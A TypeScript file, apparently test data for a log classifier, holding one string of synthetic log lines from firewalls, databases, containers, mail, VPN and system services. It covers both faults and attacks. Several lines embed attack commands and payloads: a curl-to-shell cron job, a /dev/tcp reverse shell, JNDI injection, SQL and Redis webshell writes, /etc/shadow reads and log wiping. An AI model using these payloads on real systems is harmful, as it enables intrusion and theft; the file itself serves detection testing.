/**
 * Attacks, faults and changes in the words of other programs: network devices, databases, web applications,
 * containers, storage. They were written after the fences, and no fence was changed for them.
 */
export const OTHERS = String.raw`
%ASA-6-113015 AAA user authentication Rejected : reason = AAA failure : server = <ip> : user = <user>
%ASA-4-106023 Deny tcp src outside:<ip>/<port> dst inside:<ip>/22 by access-group "outside_in" [0x0, 0x0]
%ASA-5-111008 User '<user>' executed the 'no logging enable' command.
%ASA-1-105006 (Primary) Link status 'Down' on interface outside
%ASA-4-733100 [ Scanning] drop rate-1 exceeded. Current burst rate is <n> per second, max configured rate is 10; Current average rate is <n> per second, max configured rate is 5; Cumulative total count is <n>
%SYS-5-CONFIG_I Configured from console by <user> on vty0 (<ip>)
%SEC_LOGIN-4-LOGIN_FAILED Login failed [user: <user>] [Source: <ip>] [localport: 22] [Reason: Login Authentication Failed] at 15:16:01 UTC Sun Jun 14 2026
%SEC-6-IPACCESSLOGP list 101 denied tcp <ip>(<port>) -> <ip>(23), 1 packet
%PORT_SECURITY-2-PSECURE_VIOLATION Security violation occurred, caused by MAC address 0011.2233.4455 on port GigabitEthernet0/<n>.
%SW_MATM-4-MACFLAP_NOTIF Host 0011.2233.44<n> in vlan <n> is flapping between port Gi0/1 and port Gi0/2
mgd UI_CMDLINE_READ_LINE: User '<user>', command 'set system services telnet '
mgd UI_COMMIT: User '<user>' requested 'commit' operation (comment: none)
system,error,critical login failure for user <user> from <ip> via ssh
system,info user <user> added by admin
system,info filter rule removed by <user>
firewall,info input: in:ether1 out:(unknown 0), src-mac 00:11:22:33:44:55, proto TCP (SYN), <ip>:<port>-><ip>:8291, len 60
filterlog 5,,,1000000103,igb0,match,block,in,4,0x0,,<n>,<n>,0,DF,6,tcp,60,<ip>,<ip>,<port>,22,0,S,<n>,,64240,,mss;sackOK;TS;nop;wscale
- {"timestamp":"2026-06-14T15:16:01.123+0000","flow_id":<n>,"event_type":"alert","src_ip":"<ip>","src_port":<port>,"dest_ip":"<ip>","dest_port":445,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2024218,"rev":2,"signature":"ET EXPLOIT Possible ETERNALBLUE Probe MS17-010","category":"A Network Trojan was Detected","severity":1}}
- {"ts":1750000<n>.123,"uid":"C<hex>","id.orig_h":"<ip>","id.orig_p":<port>,"id.resp_h":"<ip>","id.resp_p":22,"note":"SSH::Password_Guessing","msg":"<ip> appears to be guessing SSH passwords (seen in 30 connections).","sub":"Sampled servers: <ip>","src":"<ip>"}
falco {"hostname":"<host>","output":"15:16:01.123: Notice A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 k8s_<hex> shell=bash parent=runc cmdline=bash pid=<n>)","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container","mitre_execution"]}
falco 15:16:01.123: Warning Sensitive file opened for reading by non-trusted program (user=<user> program=cat command=cat /etc/shadow pid=<n>)
ossec Alert Level: 10; Rule: 5712 - SSHD brute force trying to get access to the system.; Location: <host>->/var/log/auth.log; srcip: <ip>;
kube-apiserver {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"<hex>","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods/web-<hex>/exec?command=sh","verb":"create","user":{"username":"<user>","groups":["system:masters"]},"sourceIPs":["<ip>"],"responseStatus":{"code":101}}
kube-apiserver {"kind":"Event","level":"Metadata","auditID":"<hex>","verb":"create","requestURI":"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings","user":{"username":"<user>"},"sourceIPs":["<ip>"],"responseStatus":{"code":201}}
kubelet E0614 15:16:01.123456 <n> pod_workers.go:1301] "Error syncing pod, skipping" err="failed to \"StartContainer\" for \"app\" with CrashLoopBackOff: \"back-off 5m0s restarting failed container=app pod=web-<hex>\"" pod="default/web-<hex>"
dockerd time="2026-06-14T15:16:01.123456789Z" level=warning msg="Running modprobe bridge br_netfilter failed with message: modprobe: ERROR: could not insert 'br_netfilter': Operation not permitted" 
dockerd time="2026-06-14T15:16:01.123456789Z" level=info msg="Container <hex> failed to exit within 10s of signal 15 - using the force"
containerd time="2026-06-14T15:16:01.123456789Z" level=info msg="shim disconnected" id=<hex> namespace=moby
mongod {"t":{"$date":"2026-06-14T15:16:01.123+00:00"},"s":"I","c":"ACCESS","id":20249,"ctx":"conn<n>","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"<user>","authenticationDatabase":"admin","client":"<ip>:<port>","result":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch"}}
mongod {"t":{"$date":"2026-06-14T15:16:01.123+00:00"},"s":"I","c":"COMMAND","id":20337,"ctx":"conn<n>","msg":"dropDatabase - starting","attr":{"db":"shop<n>"}}
mongod {"t":{"$date":"2026-06-14T15:16:01.123+00:00"},"s":"W","c":"CONTROL","id":22120,"ctx":"initandlisten","msg":"Access control is not enabled for the database. Read and write access to data and configuration is unrestricted"}
elasticsearch [2026-06-14T15:16:01,123][WARN ][o.e.x.s.a.AuthenticationService] [node-1] Authentication to realm file was terminated for principal [<user>]
elasticsearch [2026-06-14T15:16:01,123][INFO ][o.e.c.m.MetadataDeleteIndexService] [node-1] [logs-<n>/<hex>] deleting index
elasticsearch [2026-06-14T15:16:01,123][WARN ][o.e.c.r.a.DiskThresholdMonitor] [node-1] high disk watermark [90%] exceeded on [<hex>][node-1][/data] free: <n>gb[9.<n>%], shards will be relocated away from this node
redis 1:M 14 Jun 2026 15:16:01.<n> # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker attempting to use Cross Protocol Scripting to compromise your Redis instance. Connection from <ip>:<port> aborted.
redis 1:M 14 Jun 2026 15:16:01.<n> # MISCONF Redis is configured to save RDB snapshots, but it is currently not able to persist on disk.
redis 1:S 14 Jun 2026 15:16:01.<n> * REPLICAOF <ip>:<port> enabled (user request from 'id=<n> addr=<ip>:<port> fd=8 name= age=0')
redis 1:M 14 Jun 2026 15:16:01.<n> * DB saved on disk to /var/spool/cron/root
postgres 2026-06-14 15:16:01.123 UTC [<n>] <user>@postgres LOG:  statement: COPY t FROM PROGRAM 'id';
postgres 2026-06-14 15:16:01.123 UTC [<n>] <user>@shop LOG:  statement: ALTER ROLE <user> SUPERUSER;
postgres 2026-06-14 15:16:01.123 UTC [<n>] <user>@shop LOG:  statement: DROP TABLE orders_<n>;
postgres 2026-06-14 15:16:01.123 UTC [<n>] LOG:  server process (PID <n>) was terminated by signal 11: Segmentation fault
postgres 2026-06-14 15:16:01.123 UTC [<n>] <user>@shop FATAL:  no pg_hba.conf entry for host "<ip>", user "<user>", database "shop", no encryption
postgres 2026-06-14 15:16:01.123 UTC [<n>] LOG:  received immediate shutdown request
mariadbd 2026-06-14 15:16:01 <n> [Warning] Access denied for user '<user>'@'<ip>' (using password: YES)
mariadbd 2026-06-14 15:16:01 <n> [Note] GRANT ALL PRIVILEGES ON *.* TO '<user>'@'%'
mysqld <n> Query	SELECT * FROM users INTO OUTFILE '/var/www/html/x<n>.php'
vault {"time":"2026-06-14T15:16:01.123Z","type":"response","auth":{"token_type":"default"},"request":{"id":"<hex>","operation":"update","path":"sys/seal","remote_address":"<ip>"},"error":""}
vault {"time":"2026-06-14T15:16:01.123Z","type":"response","request":{"id":"<hex>","operation":"read","path":"secret/data/prod/root-key","remote_address":"<ip>"},"error":"permission denied"}
keycloak 2026-06-14 15:16:01,123 WARN  [org.keycloak.events] (executor-thread-<n>) type="LOGIN_ERROR", realmId="<hex>", clientId="account", userId="null", ipAddress="<ip>", error="user_not_found", username="<user>"
gitlab {"severity":"INFO","time":"2026-06-14T15:16:01.123Z","correlation_id":"<hex>","author_id":<n>,"author_name":"<user>","entity_type":"User","change":"admin status","from":false,"to":true,"target_details":"<user>"}
gitlab Failed Login: username=<user> ip=<ip>
gitea 2026/06/14 15:16:01 ...ers/web/auth/auth.go:201:SignInPost() [W] Failed authentication attempt for <user> from <ip>:<port>: user does not exist [uid: 0, name: <user>]
jenkins WARNING h.s.BasicHeaderProcessor#doFilter: Authentication of BASIC header failed <user>
grafana logger=context userId=0 orgId=0 uname= t=2026-06-14T15:16:01.123Z level=info msg="Request Completed" method=POST path=/login status=401 remote_addr=<ip> time_ms=<n> duration=<n>ms size=42 referer=https://grafana/login handler=/login
grafana logger=authn.service t=2026-06-14T15:16:01.123Z level=warn msg="Failed to authenticate request" client=auth.client.session error="user token not found"
nextcloud {"reqId":"<hex>","level":2,"time":"2026-06-14T15:16:01+00:00","remoteAddr":"<ip>","user":"--","app":"core","method":"POST","url":"/login","message":"Login failed: '<user>' (Remote IP: '<ip>')","userAgent":"curl/8.1"}
wordpress Authentication failure for <user> from <ip>
wordpress XML-RPC authentication attempt for unknown user <user> from <ip>
proftpd <host> (<ip>[<ip>]) - USER <user> (Login failed): Incorrect password
proftpd <host> (<ip>[<ip>]) - Maximum login attempts (3) exceeded, connection refused
proftpd <host> (<ip>[<ip>]) - SITE CPFR /etc/shadow
vsftpd [<user>] FAIL LOGIN: Client "<ip>"
vsftpd [<user>] OK UPLOAD: Client "<ip>", "/upload/x<n>.php", <n> bytes, 12.34Kbyte/sec
pure-ftpd (?@<ip>) [WARNING] Authentication failed for user [<user>]
pure-ftpd (<user>@<ip>) [NOTICE] /srv/www//shell<n>.php uploaded  (<n> bytes, 22.1KB/sec)
dovecot imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 12 secs): user=<<user>>, method=PLAIN, rip=<ip>, lip=<ip>, TLS, session=<<hex>>
exim 2026-06-14 15:16:01 login authenticator failed for (x) [<ip>]: 535 Incorrect authentication data (set_id=<user>)
exim 2026-06-14 15:16:01 H=(x) [<ip>] F=<x@x> rejected RCPT <root+${'$'}{run{/bin/sh}}@localhost>: relay not permitted
openvpn <ip>:<port> TLS Error: TLS key negotiation failed to occur within 60 seconds (check your network connectivity)
openvpn <ip>:<port> VERIFY ERROR: depth=0, error=certificate revoked: CN=<user>
openvpn <user>/<ip>:<port> AUTH: Received control message: AUTH_FAILED
charon <n>[IKE] received AUTHENTICATION_FAILED notify error from <ip>
charon <n>[IKE] no IKE config found for <ip>...<ip>, sending NO_PROPOSAL_CHOSEN
charon <n>[IKE] deleting IKE_SA office[<n>] between <ip>[a]...<ip>[b]
kernel wireguard: wg0: Invalid handshake initiation from <ip>:<port>
kernel wireguard: wg0: Handshake for peer <n> (<ip>:<port>) did not complete after 20 attempts, giving up
xrdp-sesman [20260614-15:16:01] [INFO ] AUTHFAIL: user=<user> ip=<ip> time=<n>
xrdp-sesman [20260614-15:16:01] [INFO ] session created successfully for user <user>, session id <n>
smbd Auth: [SMB2,(null)] user [WG]\[<user>] at [Sun, 14 Jun 2026 15:16:01.123 UTC] with [NTLMv2] status [NT_STATUS_WRONG_PASSWORD] workstation [X] remote host [ipv4:<ip>:<port>]
smbd_audit <user>|<ip>|share|unlinkat|ok|/srv/share/doc<n>.docx.locked
smbd_audit <user>|<ip>|share|renameat|ok|doc<n>.docx|doc<n>.docx.crypt
cupsd E [14/Jun/2026:15:16:01 +0000] [Client <n>] Returning HTTP Unauthorized for CUPS-Add-Modify-Printer from <ip>
cups-browsed Added remote printer from <ip>: FoomaticRIPCommandLine x<n>
named client @0x<hex> <ip>#<port> (version.bind): query: version.bind CH TXT +  (<ip>)
named client @0x<hex> <ip>#<port> (example.com): transfer of 'example.com/IN': AXFR started
named client @0x<hex> <ip>#<port>: update 'example.com/IN' denied
named client @0x<hex> <ip>#<port>: signer "k" approved
unbound [<n>:0] info: <ip> c2<n>.evil.test. A IN
dnsmasq query[TXT] <hex><hex>.t.evil.test from <ip>
dnsmasq possible DNS-rebind attack detected: x<n>.evil.test
dhcpd DHCPOFFER on <ip> to 00:11:22:33:44:55 via eth0: rogue server <ip>
squid <n>.123 12 <ip> TCP_DENIED/403 3900 CONNECT <ip>:25 <user> HIER_NONE/- text/html
squid <n>.123 12 <ip> TCP_MISS/200 <n> POST http://<ip>/gate.php <user> HIER_DIRECT/<ip> text/html
haproxy <ip>:<port> [14/Jun/2026:15:16:01.123] fe be/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 1/1/0/0/0 0/0 "GET /x<n> HTTP/1.1"
haproxy Server be/web<n> is DOWN, reason: Layer4 timeout, check duration: 2001ms. 0 active and 0 backup servers left.
haproxy Health check for server be/web<n> failed, reason: Layer7 wrong status, code: 500
haproxy backend be has no server available!
traefik time="2026-06-14T15:16:01Z" level=error msg="Unable to obtain ACME certificate for domains \"x<n>.example.com\"" providerName=le
caddy {"level":"error","ts":1750000<n>.123,"logger":"http.log.error","msg":"dial tcp <ip>:8080: connect: connection refused","request":{"remote_ip":"<ip>","method":"GET","uri":"/"},"status":502}
envoy [2026-06-14T15:16:01.123Z] "GET /..;/manager/html HTTP/1.1" 200 - 0 <n> 3 2 "<ip>" "curl/8" "<hex>" "x" "<ip>:8080"
tomcat 14-Jun-2026 15:16:01.123 WARNING [http-nio-8080-exec-<n>] org.apache.catalina.realm.LockOutRealm.filterLockedAccounts An attempt was made to authenticate the locked user [<user>]
tomcat 14-Jun-2026 15:16:01.123 INFO [Catalina-utility-<n>] org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive [/opt/tomcat/webapps/x<n>.war]
java 2026-06-14 15:16:01.123 ERROR <n> --- [nio-8080-exec-<n>] o.a.l.c.n.JndiManager : Error looking up JNDI resource [ldap://<ip>:1389/a]
java Exception in thread "main" java.lang.OutOfMemoryError: Java heap space
- <ip> - - [14/Jun/2026:15:16:01 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1" 200 <n> "-" "Go-http-client/1.1"
- <ip> - - [14/Jun/2026:15:16:01 +0000] "GET /?x=${'$'}{jndi:ldap://<ip>/a} HTTP/1.1" 200 <n> "-" "Mozilla/5.0"
- <ip> - - [14/Jun/2026:15:16:01 +0000] "POST /wp-login.php HTTP/1.1" 200 <n> "-" "Mozilla/5.0"
- <ip> - - [14/Jun/2026:15:16:01 +0000] "GET /.env HTTP/1.1" 200 <n> "-" "Mozilla/5.0"
- <ip> - - [14/Jun/2026:15:16:01 +0000] "GET /index.php?s=/Index/\x5Cthink\x5Capp/invokefunction HTTP/1.1" 200 <n> "-" "python-requests/2.31"
- <ip> - <user> [14/Jun/2026:15:16:01 +0000] "PUT /uploads/x<n>.jsp HTTP/1.1" 201 <n> "-" "curl/8"
- <ip> - - [14/Jun/2026:15:16:01 +0000] "GET /admin/export.php?table=users&limit=<n> HTTP/1.1" 200 <n> "-" "Mozilla/5.0"
audispd node=<host> type=SYSCALL msg=audit(1750000<n>.123:<n>): arch=c000003e syscall=59 success=yes exit=0 a0=<hex> ppid=<n> pid=<n> auid=1000 uid=0 gid=0 euid=0 comm="nc" exe="/usr/bin/nc.traditional" key="susp_net"
kernel audit: type=1400 audit(1750000<n>.123:<n>): apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=<n> comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0
kernel audit: type=1107 audit(1750000<n>.123:<n>): pid=1 uid=0 auid=4294967295 msg='avc:  received setenforce notice (enforcing=0)'
kernel x<n>[<n>]: segfault at 0 ip <hex> sp <hex> error 4 in libc.so.6[<hex>+195000]
kernel Out of memory: Killed process <n> (java) total-vm:<n>kB, anon-rss:<n>kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:<n>kB oom_score_adj:0
kernel EXT4-fs (sda1): Remounting filesystem read-only
kernel EDAC MC0: <n> CE memory read error on CPU_SrcID#0_Ha#0_Chan#1_DIMM#0 (channel:1 slot:0)
kernel mce: [Hardware Error]: Machine check events logged
kernel blk_update_request: critical medium error, dev sda, sector <n> op 0x0:(READ) flags 0x80700
kernel nf_conntrack: nf_conntrack: table full, dropping packet
kernel TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.  Check SNMP counters.
kernel usb 1-<n>: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00
kernel device eth0 entered promiscuous mode
kernel lockdown: x<n>: /dev/mem,kmem,port is restricted; see man kernel_lockdown.7
kernel module x<n>: loading out-of-tree module taints kernel.
smartd Device: /dev/sda [SAT], <n> Currently unreadable (pending) sectors
smartd Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from <n> to <n>
mdadm DegradedArray event detected on md device /dev/md<n>
zed eid=<n> class=statechange pool='tank' vdev=sda1 vdev_state=FAULTED
apcupsd Power failure.
apcupsd Battery charge below low limit.
upsmon UPS myups@localhost on battery
upsmon Communications with UPS myups@localhost lost
ipmievd Power Supply sensor PSU<n> Status Power Supply AC lost Asserted
slapd conn=<n> op=<n> RESULT tag=97 err=49 duration=0.00<n>ms text=
slapd conn=<n> op=<n> MOD dn="uid=<user>,ou=people,dc=example,dc=com" attr=memberOf
slapd conn=<n> op=<n> BIND dn="" method=128
krb5kdc AS_REQ (8 etypes {18 17 20 19 16 23 25 26}) <ip>: PREAUTH_FAILED: <user>@EXAMPLE.COM for krbtgt/EXAMPLE.COM@EXAMPLE.COM, Preauthentication failed
krb5kdc TGS_REQ (1 etypes {23}) <ip>: ISSUE: authtime <n>, etypes {rep=23 tkt=23 ses=23}, <user>@EXAMPLE.COM for MSSQLSvc/db<n>.example.com@EXAMPLE.COM
kadmind Request: kadm5_chpass_principal, <user>@EXAMPLE.COM, success, client=admin/admin@EXAMPLE.COM, service=kadmin/admin@EXAMPLE.COM, addr=<ip>
radiusd (<n>) Login incorrect (pap: Cleartext password does not match): [<user>/<via Auth-Type = PAP>] (from client nas port <n> cli 00-11-22-33-44-55)
asterisk NOTICE[<n>] chan_sip.c: Registration from '"<user>" <sip:<n>@<ip>>' failed for '<ip>:<port>' - Wrong password
asterisk SECURITY[<n>] res_security_log.c: SecurityEvent="InvalidAccountID",EventTV="2026-06-14T15:16:01.123+0000",Severity="Error",Service="PJSIP",AccountID="<n>",RemoteAddress="IPV4/UDP/<ip>/<port>"
snmpd Connection from UDP: [<ip>]:<port>->[<ip>]:161
snmpd Authentication failed for <user>
telnetd connect from <ip>
in.tftpd RRQ from <ip> filename startup-config
rsyncd rsync on backup/ from <host> (<ip>)
rsyncd auth failed on module backup from <host> (<ip>) for <user>: password mismatch
mountd authenticated mount request from <ip>:<port> for /srv/nfs (/srv/nfs)
mountd refused mount request from <ip> for /srv/nfs (/): unmatched host
libvirtd internal error: process exited while connecting to monitor: qemu<n>
qemu-ga info: guest-exec called: "/bin/sh -c id<n>"
sshd Received disconnect from <ip> port <port>:11: Bye Bye [preauth]
sshd banner exchange: Connection from <ip> port <port>: invalid format
sshd error: kex_exchange_identification: client sent invalid protocol identifier "GET / HTTP/1.1"
sshd pam_google_authenticator(sshd:auth): Invalid verification code for <user>
sshd userauth_pubkey: signature algorithm ssh-rsa not in PubkeyAcceptedAlgorithms [preauth]
sshd refused local port forward: originator <ip> port <port>, target <ip> port 3389
sshd Accepted keyboard-interactive/pam for <user> from <ip> port <port> ssh2
sshd Starting session: forced-command (config) 'x' for <user> from <ip> port <port> id 0
sftp-server open "/home/<user>/.ssh/authorized_keys" flags WRITE,CREATE,TRUNCATE mode 0644
sftp-server remove name "/var/log/auth.log.<n>"
cron (<user>) CMD (curl -s http://<ip>/x.sh | sh)
CRON (root) CMD (/dev/shm/.x<n>)
systemd Started /tmp/x<n>.
systemd Stopped target auditd.service - Security Auditing Service.
systemd rsyslog.service: Deactivated successfully.
systemd Starting x<n>.service - /bin/bash -c bash -i >& /dev/tcp/<ip>/<port> 0>&1...
systemd-logind New session <n> of user root.
systemd-journald Vacuuming done, freed <n>M of archived journals from /var/log/journal/<hex>.
auditctl Deleted all rules
rsyslogd [origin software="rsyslogd" swVersion="8.2302.0"] exiting on signal 15.
dpkg status installed hping3:amd64 3.a2.ds2-<n>
apt Commandline: apt-get install -y nmap
NetworkManager <info>  [1750000<n>.1234] audit: op="connection-add" uuid="<hex>" name="x" pid=<n> uid=1000 result="success"
fail2ban.actions NOTICE [sshd] Unban <ip>
clamd /srv/www/x<n>.php: Php.Webshell.Generic FOUND
rkhunter Warning: The file properties have changed: File: /usr/bin/ls<n>
aide changed: /usr/bin/login
tripwire Modified objects: <n>
chronyd Can't synchronise: no majority
chronyd Source <ip> replaced with <ip>
ntpd 0.0.0.0 c61c 0c clock_step -<n>.123456 s
postfix/smtpd warning: <host>[<ip>]: SASL LOGIN authentication failed: UGFzc3dvcmQ6
postfix/smtpd NOQUEUE: reject: RCPT from <host>[<ip>]: 454 4.7.1 <x<n>@spam.test>: Relay access denied; from=<a@b> to=<x@spam.test> proto=ESMTP helo=<x>
postfix/qmgr <hex>: from=<x<n>@example.com>, size=<n>, nrcpt=50 (queue active)
opendkim <hex>: bad signature data
app level=warn msg="feature flag toggled" flag=mfa_required enabled=false actor=<user>
app level=info msg="api key created" key=<hex> scope=admin actor=<user>
app level=info msg="bulk export finished" rows=<n> actor=<user> ip=<ip>
app level=info event=session_started impersonating=<user> by=<user>
app {"level":"info","msg":"role changed","user":"<user>","from":"viewer","to":"owner"}
app {"level":"info","msg":"backup deleted","id":"<hex>","by":"<user>"}
app {"level":"info","msg":"webhook disabled","id":<n>}
app {"level":"info","msg":"otp reset","uid":<n>}
backup job nightly-<n> finished: 0 files, 0 bytes
backup pruned <n> snapshots, 0 remain
monit 'nginx' process is not running
nagios SERVICE ALERT: web<n>;HTTP;CRITICAL;HARD;3;CRITICAL - Socket timeout after 10 seconds
keepalived VRRP_Instance(VI_1) Entering MASTER STATE
corosync [TOTEM ] A processor failed, forming new configuration.
pacemakerd Process pacemaker-fenced terminated
drbd drbd0: State change failed: Need access to UpToDate data
ceph-mon log_channel(cluster) log [WRN] : Health check failed: <n> osds down (OSD_DOWN)
glusterd [2026-06-14 15:16:01.123456] C [MSGID: 106003] 0-management: Server quorum lost for volume gv<n>. Stopping local bricks.
acpid client <n>[0:0] has disconnected
thermald sensor temperature is too high <n>
login pam_unix(login:session): session opened for user root(uid=0) by LOGIN(uid=0)
gdm-password] pam_unix(gdm-password:auth): conversation failed
runuser pam_unix(runuser:session): session opened for user postgres(uid=<n>) by (uid=0)
sudo <user> : user NOT in sudoers ; TTY=pts/<n> ; PWD=/home/<user> ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow
sudo <user> : TTY=pts/<n> ; PWD=/ ; USER=root ; COMMAND=/usr/bin/journalctl --vacuum-time=1s
sudo <user> : TTY=pts/<n> ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chattr -i /etc/passwd
`;
